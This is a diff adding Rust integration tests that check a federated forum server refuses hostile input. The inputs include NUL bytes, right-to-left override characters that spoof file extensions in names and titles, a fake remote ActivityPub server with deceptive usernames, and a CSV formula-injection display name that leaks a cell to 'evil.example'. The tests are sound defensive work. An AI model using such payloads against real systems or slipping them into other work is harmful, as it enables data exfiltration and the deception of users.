@@ -789,3 +789,322 @@ async fn every_api_route_and_form_refuses_hostile_input_with_a_code() {
         instance.stop().await;
     }
 }
+
+/// A server that is not Préau: WebFinger and actor documents for any name
+/// `N`, whose `preferredUsername` is `usernames(N)`.
+async fn fake_server(public_key_pem: String) -> String {
+    use axum::{extract::Query, http::header, response::IntoResponse, routing::get, Router};
+    use std::collections::HashMap;
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let origin = format!("http://localhost:{}", listener.local_addr().unwrap().port());
+    let base = origin.clone();
+    let webfinger = move |Query(query): Query<HashMap<String, String>>| {
+        let base = base.clone();
+        async move {
+            let resource = query.get("resource").cloned().unwrap_or_default();
+            let name = resource
+                .trim_start_matches("acct:")
+                .split('@')
+                .next()
+                .unwrap_or_default()
+                .to_string();
+            (
+                [(header::CONTENT_TYPE, "application/jrd+json")],
+                json!({
+                    "subject": resource,
+                    "links": [{"rel": "self", "type": "application/activity+json",
+                               "href": format!("{base}/users/{name}")}]
+                })
+                .to_string(),
+            )
+                .into_response()
+        }
+    };
+    let base = origin.clone();
+    let actor = move |axum::extract::Path(name): axum::extract::Path<String>| {
+        let base = base.clone();
+        let pem = public_key_pem.clone();
+        async move {
+            let id = format!("{base}/users/{name}");
+            let preferred = match name.as_str() {
+                "alice" => "alice@academie.example",
+                "rlo" => "eve\u{202E}",
+                other => other,
+            };
+            (
+                [(header::CONTENT_TYPE, "application/activity+json")],
+                json!({
+                    "@context": ["https://www.w3.org/ns/activitystreams", "https://w3id.org/security/v1"],
+                    "id": id,
+                    "type": "Person",
+                    "preferredUsername": preferred,
+                    "name": "Name\u{202E}txt.exe",
+                    "inbox": format!("{id}/inbox"),
+                    "publicKey": {"id": format!("{id}#main-key"), "owner": id, "publicKeyPem": pem},
+                })
+                .to_string(),
+            )
+                .into_response()
+        }
+    };
+    let app = Router::new()
+        .route("/.well-known/webfinger", get(webfinger))
+        .route("/users/{name}", get(actor));
+    tokio::spawn(async move {
+        axum::serve(listener, app).await.unwrap();
+    });
+    origin
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn each_hostile_class_answers_its_own_code() {
+    for engine in engines() {
+        let (instance, anne, fixture) = prepared(engine).await;
+        let api = |path: &str| instance.url(&format!("/api/v1{path}"));
+        let get = |url: String| async move {
+            Answer::of(api_client().get(url).send().await.unwrap()).await
+        };
+
+        // Path and query errors on the API: JSON with a code.
+        for path in [
+            "/threads/abc",
+            "/threads/99999999999999999999",
+            "/threads/1.5",
+        ] {
+            api_refused(path, &get(api(path)).await, Some("invalid_path"));
+        }
+        for page in ["abc", "0", "-1", "99999999999999999999", "1.5"] {
+            let path = format!("/forums/maths?page={page}");
+            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
+            let path = format!("/threads/{}?page={page}", fixture.thread_id);
+            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
+            let path = format!("/directory?page={page}");
+            api_refused(&path, &get(api(&path)).await, Some("invalid_page"));
+        }
+        assert_eq!(get(api("/forums/maths?page=1")).await.status, 200);
+        assert_eq!(get(api("/forums/maths?page=")).await.status, 200);
+        let answer = get(api("/forums/maths?page=1&page=2")).await;
+        api_refused("twice", &answer, Some("invalid_query"));
+
+        // The same on pages: the HTML error page.
+        for path in [
+            "/threads/abc",
+            "/threads/99999999999999999999",
+            "/post/x/edit",
+        ] {
+            let answer = get(instance.url(path)).await;
+            if path.starts_with("/post/") {
+                assert_eq!(answer.status, 405, "{path}");
+                continue;
+            }
+            page_refused(path, &answer, Some(400));
+        }
+        for page in ["0", "-1", "abc"] {
+            let path = format!("/forums/maths?page={page}");
+            page_refused(&path, &get(instance.url(&path)).await, Some(422));
+            let path = format!("/threads/{}?page={page}", fixture.thread_id);
+            page_refused(&path, &get(instance.url(&path)).await, Some(422));
+        }
+        assert_eq!(get(instance.url("/forums/maths?page=1")).await.status, 200);
+
+        // U+0000 where no account is needed: log-in, profiles, forums,
+        // WebFinger, the directory.
+        let answer = Answer::of(
+            api_client()
+                .post(api("/sessions"))
+                .json(&json!({"login": "an\u{0}ne", "password": PASSWORD}))
+                .send()
+                .await
+                .unwrap(),
+        )
+        .await;
+        api_refused("log-in", &answer, Some("invalid_text"));
+        for path in [
+            "/profiles/an%00ne",
+            "/forums/ma%00ths",
+            "/directory?q=%00",
+            "/directory?place=a%00",
+        ] {
+            api_refused(path, &get(api(path)).await, Some("invalid_text"));
+        }
+        let answer = get(instance.url(&format!(
+            "/.well-known/webfinger?resource=acct:an%00ne@{}",
+            instance.domain
+        )))
+        .await;
+        api_refused("webfinger", &answer, Some("invalid_text"));
+        page_refused(
+            "page",
+            &get(instance.url("/users/an%00ne")).await,
+            Some(400),
+        );
+        page_refused(
+            "directory page",
+            &get(instance.url("/directory?q=a%00")).await,
+            Some(400),
+        );
+
+        // Unicode format characters leave names, local ones at least.
+        let put = |path: &str, body: Value| {
+            let url = api(path);
+            let anne = anne.clone();
+            async move {
+                Answer::of(
+                    api_client()
+                        .put(url)
+                        .bearer_auth(anne)
+                        .json(&body)
+                        .send()
+                        .await
+                        .unwrap(),
+                )
+                .await
+            }
+        };
+        let answer = put(
+            "/me/profile",
+            json!({"display_name": "\u{FEFF}Anne\u{202E}gpj.exe\u{200B}\u{2066}"}),
+        )
+        .await;
+        assert_eq!(answer.status, 200, "{}", answer.body);
+        let me: Value = api_client()
+            .get(api("/me"))
+            .bearer_auth(&anne)
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        assert_eq!(me["profile"]["display_name"], "Annegpj.exe", "{me}");
+        let thread = Answer::of(
+            api_client()
+                .post(api("/forums/maths/threads"))
+                .bearer_auth(&anne)
+                .json(&json!({"title": "rapport\u{202E}fdp.exe", "body": "x"}))
+                .send()
+                .await
+                .unwrap(),
+        )
+        .await;
+        assert_eq!(thread.status, 201, "{}", thread.body);
+        let thread: Value = serde_json::from_str(&thread.body).unwrap();
+        assert_eq!(thread["title"], "rapportfdp.exe", "{thread}");
+
+        // A formula as a display name is defused in the members CSV.
+        let formula = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Anne\")";
+        let answer = put("/me/profile", json!({"display_name": formula})).await;
+        assert_eq!(answer.status, 200, "{}", answer.body);
+        let browser = logged_in(&instance, "anne").await;
+        let csv = browser
+            .get(instance.url("/projects/eco/members.csv"))
+            .send()
+            .await
+            .unwrap()
+            .text()
+            .await
+            .unwrap();
+        assert!(csv.contains("'=HYPERLINK("), "{csv}");
+        assert!(
+            !csv.lines()
+                .any(|line| line.starts_with('=') || line.contains(",=") || line.contains(",\"=")),
+            "{csv}"
+        );
+        let admin_csv = browser
+            .get(instance.url("/admin/users.csv"))
+            .send()
+            .await
+            .unwrap();
+        assert_eq!(admin_csv.status(), 200);
+
+        // The inbox takes ActivityPub documents only, checked before the
+        // signature.
+        let inbox = instance.url("/inbox");
+        let post_inbox = |content_type: Option<&'static str>, body: &'static str| {
+            let inbox = inbox.clone();
+            async move {
+                let mut request = api_client().post(inbox).body(body);
+                if let Some(content_type) = content_type {
+                    request = request.header("content-type", content_type);
+                }
+                Answer::of(request.send().await.unwrap()).await
+            }
+        };
+        let activity = r#"{"type": "Create", "actor": "http://peer.example/users/x"}"#;
+        for content_type in [
+            Some("text/plain"),
+            Some("application/x-www-form-urlencoded"),
+            None,
+        ] {
+            let answer = post_inbox(content_type, activity).await;
+            assert_eq!(answer.status, 415, "{content_type:?}: {}", answer.body);
+            assert_eq!(answer.code(), "unsupported_media_type");
+        }
+        for content_type in [
+            "application/activity+json",
+            "application/ld+json; profile=\"https://www.w3.org/ns/activitystreams\"",
+            "application/json; charset=utf-8",
+        ] {
+            let answer = post_inbox(Some(content_type), activity).await;
+            assert_eq!(answer.code(), "signature_missing", "{content_type}");
+        }
+        let answer = post_inbox(
+            Some("application/activity+json"),
+            r#"{"type": "Create", "actor": "http://peer.example/users/x\u0000"}"#,
+        )
+        .await;
+        api_refused("inbox NUL", &answer, Some("invalid_text"));
+
+        // A remote user name that reads as another handle is refused
+        // before it is stored; a plain one on the same server is taken,
+        // with its display name normalised.
+        let document: Value = api_client()
+            .get(instance.url("/users/anne"))
+            .header("accept", "application/activity+json")
+            .send()
+            .await
+            .unwrap()
+            .json()
+            .await
+            .unwrap();
+        let pem = document["publicKey"]["publicKeyPem"]
+            .as_str()
+            .unwrap()
+            .to_string();
+        let origin = fake_server(pem).await;
+        let host = origin.trim_start_matches("http://").to_string();
+        let lookup = |name: &str| {
+            let url = api(&format!("/lookup?handle={name}@{host}"));
+            let anne = anne.clone();
+            async move {
+                Answer::of(
+                    api_client()
+                        .get(url)
+                        .bearer_auth(anne)
+                        .send()
+                        .await
+                        .unwrap(),
+                )
+                .await
+            }
+        };
+        let answer = lookup("bob").await;
+        assert_eq!(answer.status, 200, "{}", answer.body);
+        let bob: Value = serde_json::from_str(&answer.body).unwrap();
+        assert_eq!(bob["display_name"], "Nametxt.exe", "{bob}");
+        let store = &instance.running.state.domain.store;
+        for name in ["alice", "rlo"] {
+            let answer = lookup(name).await;
+            // The documented answer of a remote that cannot be taken.
+            assert_eq!(answer.status, 502, "{name}: {}", answer.body);
+            assert_eq!(answer.code(), "lookup_failed", "{name}");
+            let stored = store
+                .actor_by_ap_id(&format!("{origin}/users/{name}"))
+                .await
+                .unwrap();
+            assert!(stored.is_none(), "{name} was stored");
+        }
+        still_alive(&instance, "after the classes").await;
+        instance.stop().await;
+    }
+}
